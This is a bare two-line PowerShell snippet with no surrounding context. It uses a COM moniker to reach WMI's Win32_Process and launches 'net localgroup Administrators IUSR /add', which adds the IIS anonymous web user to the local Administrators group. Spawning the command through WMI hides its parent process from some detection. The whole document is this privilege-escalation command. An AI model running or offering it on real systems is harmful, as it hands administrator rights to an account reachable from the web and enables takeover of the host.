$o = [Runtime.InteropServices.Marshal]::BindToMoniker('winmgmts:root\cimv2:Win32_Process')
$o.Create('net localgroup Administrators IUSR /add')
